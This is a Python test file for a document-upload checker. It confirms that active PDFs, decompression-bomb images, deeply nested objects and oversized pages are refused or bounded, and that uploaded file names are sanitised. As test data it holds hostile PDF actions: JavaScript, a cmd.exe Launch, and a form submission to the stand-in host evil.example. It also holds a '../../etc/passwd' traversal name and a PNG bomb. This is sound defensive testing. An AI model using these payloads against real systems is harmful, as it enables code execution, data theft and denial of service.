"""Uploaded files that mean harm: refused, or bounded in time and memory."""

import io

import pytest
from PIL import Image
from pypdfium2 import PdfPage

from casework.documents.connectors.clamd import NoScanner
from casework.documents.connectors.pdf_pages import MAX_PIXELS, draw_pages
from casework.documents.errors import FileRejected
from casework.documents.file_check import check_file, safe_name
from tests.support.effort import calls
from tests.support.files import pdf


def verdict(name, content):
    try:
        check_file(name, content, NoScanner())
    except FileRejected as refusal:
        return refusal.details["reason"]
    return "TAKEN"


def test_an_ordinary_file_is_taken():
    assert check_file("surat.PDF", pdf(), NoScanner()).pages == 1


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        b"/AcroForm<</XFA 4 0 R>>",
        b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>",
    ],
)
def test_a_pdf_that_acts_is_refused(catalog):
    assert verdict("a.pdf", pdf([b"<<>>"], catalog=catalog)) == "ACTIVE"


def test_what_acts_is_found_also_where_nothing_leads_to_it():
    assert verdict("a.pdf", pdf([b"<</Type/Action/S/JavaScript/JS(x)>>"])) == "ACTIVE"


def test_countless_objects_are_refused_quickly():
    content = pdf([b"1"] * 90_000)
    assert verdict("a.pdf", content) == "ACTIVE"
    assert calls(lambda: verdict("a.pdf", content)) < 8_000_000


@pytest.mark.parametrize("content", [b"[" * 5_000 + b"]" * 5_000, b"<</A" * 3_000 + b" 1" + b">>" * 3_000])
def test_endless_nesting_does_not_break_the_check(content):
    assert verdict("a.pdf", pdf([content])) in ("TAKEN", "BROKEN")


def test_a_page_of_a_kilometre_is_drawn_small(monkeypatch):
    drawn, render = [], PdfPage.render
    monkeypatch.setattr(PdfPage, "render", lambda page, **options: drawn.append(render(page, **options)) or drawn[-1])
    (image,) = draw_pages(pdf(box="0 0 1 10000000"), "application/pdf")
    with Image.open(io.BytesIO(image)) as kept:
        assert kept.width * kept.height <= MAX_PIXELS * 1.2
    assert sum(bitmap.width * bitmap.height for bitmap in drawn) <= MAX_PIXELS * 1.2, "pixels in memory"


def test_an_ordinary_page_is_drawn_wide():
    (image,) = draw_pages(pdf(), "application/pdf")
    with Image.open(io.BytesIO(image)) as drawn:
        assert 1_190 <= drawn.width <= 1_201


def test_a_picture_that_unpacks_to_gigabytes_is_refused():
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    assert len(out.getvalue()) < 500_000
    assert verdict("a.png", out.getvalue()) == "TOO_MANY_PIXELS"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\temp\\surat.pdf", "surat.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("", "berkas"),
        ("...", "berkas"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_names_are_made_harmless(name, safe):
    assert safe_name(name) == safe
